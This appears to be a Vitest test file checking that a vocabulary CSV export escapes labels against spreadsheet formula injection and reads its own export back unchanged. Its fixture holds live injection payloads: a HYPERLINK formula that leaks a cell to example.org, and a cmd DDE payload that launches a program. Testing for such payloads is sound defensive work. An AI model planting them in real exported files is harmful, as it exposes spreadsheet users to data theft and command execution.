import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { parseVocabularyCsv, type Vocabulary, vocabularyToCsv } from '../../src/formats/index.js';

/** Labels a spreadsheet would run as formulas, and labels that only look like the escape. */
const hostile = {
  hyperlink: '=HYPERLINK("http://example.org/?leak="&A1,"click")',
  sum: '@SUM(1+1)',
  command: "+cmd|'/C calc'!A0",
  arithmetic: '-2+3',
  fullwidth: '＝1+1',
  quoted: "'=already quoted",
  apostrophe: "'tis the season",
};

const vocabulary: Vocabulary = {
  id: 'hostile',
  terms: Object.entries(hostile).map(([id, label]) => ({
    id,
    labels: { en: label, vie: `nhãn ${id}` },
    broader: [],
  })),
};

describe('a vocabulary exported as CSV', () => {
  const csv = vocabularyToCsv(vocabulary);
  const cells = (parseCsv(csv) as string[][]).slice(1).map((row) => row[2] ?? '');

  it('starts no label cell with a character that makes a spreadsheet run it as a formula', () => {
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
    expect(cells.slice(0, 4)).toEqual([
      `'${hostile.hyperlink}`,
      `'${hostile.sum}`,
      `'${hostile.command}`,
      `'${hostile.arithmetic}`,
    ]);
  });

  it('reads back as the same labels when heritage imports its own export', () => {
    const again = parseVocabularyCsv(csv, { sourceName: 'hostile.csv', vocabularyId: 'hostile' });
    expect(again.terms).toEqual(vocabulary.terms);
  });

  it('keeps the labels of a hand-written CSV that has no escapes as they are', () => {
    const handWritten = "id,label@en\nx,'Cause\ny,it's\n";
    const read = parseVocabularyCsv(handWritten, { sourceName: 'hand.csv', vocabularyId: 'hand' });
    expect(read.terms.map((term) => term.labels.en)).toEqual(["'Cause", "it's"]);
  });
});
